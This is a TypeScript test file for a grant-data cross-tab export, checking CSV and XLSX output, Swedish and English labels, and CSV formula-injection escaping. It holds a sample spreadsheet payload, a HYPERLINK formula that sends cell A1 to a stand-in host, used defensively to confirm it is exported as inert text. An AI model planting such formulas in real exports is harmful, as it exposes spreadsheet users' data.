import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import type { ArgsIn, CrosstabResult } from '../../main/contract/calls';
import { unwrap } from '../../main/contract/errors';
import { openTabular } from '../../main/importers/tabular/open-tabular';
import { csvCell, csvFigure } from '../../main/services/csv-cell';
import { shownValue, tableOf } from '../../main/services/crosstab/table';
import { Services } from '../../main/services/services';
import { crosstabStore, POPULATION } from '../support/crosstab-store';
import { resourcesDir, useTempDir } from '../support/temp-dir';

const tempDir = useTempDir();
const opened: Services[] = [];
afterEach(() => {
  for (const services of opened.splice(0)) services.close();
});

const HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?d="&A1;"Klicka")';
const ORE = 37;

/** The cross-tab store with a call title that is a formula and an application asking for kronor and öre. */
function exportStore(): { services: Services; dir: string } {
  const dir = tempDir();
  const store = crosstabStore(dir);
  store.db.prepare('UPDATE grant_calls SET title = ? WHERE id = (SELECT min(id) FROM grant_calls)').run(HOSTILE_TITLE);
  store.db.prepare('UPDATE applications SET requested_ore = requested_ore + ? WHERE id = (SELECT min(id) FROM applications)').run(ORE);
  store.close();
  const services = new Services({ resourcesDir });
  services.open(join(dir, 'crosstab.sqlite'));
  opened.push(services);
  return { services, dir };
}

const query: ArgsIn<'crosstab.run'> = {
  rows: ['call', 'stage'],
  cols: ['has_evaluation'],
  measures: ['requested_sek', 'approval_rate', 'granted_sek_per_capita'],
  population: POPULATION,
};

async function exported(services: Services, dir: string, format: 'csv' | 'xlsx', language: 'sv' | 'en' = 'sv') {
  const path = join(dir, `korstabell.${format}`);
  const { fileId } = services.registerFile(path);
  const written = unwrap<{ rows: number }>(await services.call('crosstab.export', { query, format, fileId, language }));
  const result = unwrap<CrosstabResult>(await services.call('crosstab.run', query));
  return { path, written, table: tableOf(result, language) };
}

const englishStages = ['Survey', 'Needs analysis', 'Plan for continued work', 'Long-term measures', 'Evaluation'];

describe('crosstab.export', () => {
  it('writes the CSV as the table shows it, totals and öre included, and it reads back equal', async () => {
    const { services, dir } = exportStore();
    const { path, written, table } = await exported(services, dir, 'csv');
    const text = readFileSync(path, 'utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const lines = parse(text, { bom: true, delimiter: ';', relaxColumnCount: false }) as string[][];
    expect(written.rows).toBe(table.rows.length);
    expect(lines[0]).toEqual(table.header);
    expect(lines).toHaveLength(table.rows.length + 1);
    const swedish = (unit: string, value: number | null) => {
      const shown = shownValue(unit as never, value);
      if (shown === null) return '';
      if (unit === 'ratio') return new Intl.NumberFormat('sv-SE', { style: 'percent', minimumFractionDigits: 1, maximumFractionDigits: 1 }).format(shown);
      return new Intl.NumberFormat('sv-SE', { minimumFractionDigits: 2, maximumFractionDigits: 2 }).format(shown);
    };
    table.rows.forEach((row, i) => {
      const labels = row.labels.map((label) => (label.startsWith('=') ? `'${label}` : label));
      expect(lines[i + 1]).toEqual([...labels, ...row.values.map((value, j) => swedish(table.units[j]!, value))]);
    });
    // The grand total is the last line; the requested sum keeps the one application's öre.
    const grand = lines.at(-1)!;
    expect(grand.slice(0, 2)).toEqual(['Totalt', '']);
    expect(grand.at(-3)).toMatch(/,37$/);
    // The formula of the call's title is text, never run: a leading ' and its quotes kept.
    expect(lines.some((line) => line[0] === `'${HOSTILE_TITLE}`)).toBe(true);
  });

  it('writes the XLSX with figures as numbers in kronor to the öre and every label a plain string', async () => {
    const { services, dir } = exportStore();
    const { path, written, table } = await exported(services, dir, 'xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(readFileSync(path) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Korstabell')!;
    expect(written.rows).toBe(table.rows.length);
    expect(sheet.rowCount).toBe(table.rows.length + 1);
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(table.header);
    const labels = table.header.length - table.units.length;
    table.rows.forEach((row, i) => {
      const cells = sheet.getRow(i + 2);
      row.labels.forEach((label, j) => {
        const cell = cells.getCell(j + 1);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.value).toBe(label);
      });
      row.values.forEach((value, j) => {
        const cell = cells.getCell(labels + j + 1);
        expect(cell.value ?? null).toBe(shownValue(table.units[j]!, value));
      });
    });
    const grand = sheet.getRow(sheet.rowCount);
    expect(grand.getCell(1).value).toBe('Totalt');
    expect(Math.round((grand.getCell(sheet.columnCount - 2).value as number) * 100) % 100).toBe(ORE);
    expect(grand.getCell(sheet.columnCount - 2).numFmt).toBe('#,##0.00 "kr"');
    const hostile = sheet.getColumn(1).values.find((value) => value === HOSTILE_TITLE);
    expect(hostile).toBe(HOSTILE_TITLE);
    sheet.eachRow((r) => r.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('writes English headers and labels when asked, the figures in the Swedish formats still, in CSV and in XLSX', async () => {
    const { services, dir } = exportStore();
    const { path } = await exported(services, dir, 'csv', 'en');
    const lines = parse(readFileSync(path, 'utf8'), { bom: true, delimiter: ';' }) as string[][];
    const [header, ...rows] = lines;
    expect(header!.slice(0, 2)).toEqual(['Call', 'Stage']);
    for (const column of ['Yes', 'No', 'Total']) {
      for (const measure of ['Requested (kr)', 'Approval rate', 'Granted per inhabitant (kr)']) expect(header).toContain(`${column} ${measure}`);
    }
    const stagesShown = new Set(rows.filter((row) => row[1] !== '').map((row) => row[1]!));
    expect(stagesShown.size).toBeGreaterThan(1);
    // Each call's subtotal says Total under Stage; the grand total says it once.
    for (const stage of stagesShown) expect([...englishStages, 'Total']).toContain(stage);
    expect(stagesShown).toContain('Total');
    expect(rows.filter((row) => row[1] === '')).toHaveLength(1);
    const grand = rows.at(-1)!;
    expect(grand.slice(0, 2)).toEqual(['Total', '']);
    expect(grand.at(-3)).toMatch(/^[\d\u00a0 ]+,37$/);
    expect(grand.find((cell) => cell.endsWith('%'))).toMatch(/^\d+,\d\u00a0%$/);
    expect(lines.flat().filter((cell) => ['Totalt', 'Ja', 'Nej', 'Steg', 'Utlysning', 'Kartläggning'].includes(cell))).toEqual([]);

    const xlsx = await exported(services, dir, 'xlsx', 'en');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(readFileSync(xlsx.path) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('Cross-tab')!;
    expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(header);
    expect(sheet.getRow(sheet.rowCount).getCell(1).value).toBe('Total');
    expect(typeof sheet.getRow(sheet.rowCount).getCell(3).value).toBe('number');
  });

  it('leaves the file there before as it was when the cross-tab cannot be made, and no temporary file', async () => {
    const { services, dir } = exportStore();
    const path = join(dir, 'old.csv');
    writeFileSync(path, 'the earlier export');
    const { fileId } = services.registerFile(path);
    const refused = await services.call('crosstab.export', { query: { rows: ['indicator'], measures: ['granted_sek'] }, format: 'csv', fileId });
    expect(refused).toMatchObject({ ok: false, error: { code: 'CROSSTAB_UNSUPPORTED' } });
    expect(readFileSync(path, 'utf8')).toBe('the earlier export');
    expect(readdirSync(dir).filter((name) => name.endsWith('.tmp'))).toEqual([]);
    expect(existsSync(join(dir, 'korstabell.csv'))).toBe(false);
  });
});

describe('a CSV cell', () => {
  it('puts a quote before text that Excel would take for a formula, never before a figure', () => {
    for (const text of ['=1+1', '+46 8 123', '-2', '@SUM(A1)', '\tx']) expect(csvCell(text)).toBe(`'${text}`);
    expect(csvCell('\rx')).toBe('"\'\rx"');
    expect(csvCell('=A1;B1')).toBe('"\'=A1;B1"');
    for (const text of ['Malmö', '2021-00001', ' =not first', "'=already"]) expect(csvCell(text)).toBe(text);
    expect(csvFigure('-1,5')).toBe('-1,5');
    expect(csvFigure('−1 250,00')).toBe('−1 250,00');
  });

  it('is read back by the CSV import as it was before the quote', async () => {
    const path = join(tempDir(), 'guarded.csv');
    const texts = ['=HYPERLINK("x")', '-Läxhjälp', '@närvaro', '+46 8 123', "'vanlig", 'Malmö'];
    writeFileSync(path, `\uFEFF${csvCell('Titel')};${csvCell('Belopp')}\r\n${texts.map((text) => `${csvCell(text)};${csvFigure('-1,5')}`).join('\r\n')}\r\n`);
    const source = await openTabular(path);
    const rows: string[][] = [];
    for await (const row of source.rows()) rows.push(row.cells);
    await source.close();
    expect(rows).toEqual(texts.map((text) => [text, '-1,5']));
  });
});
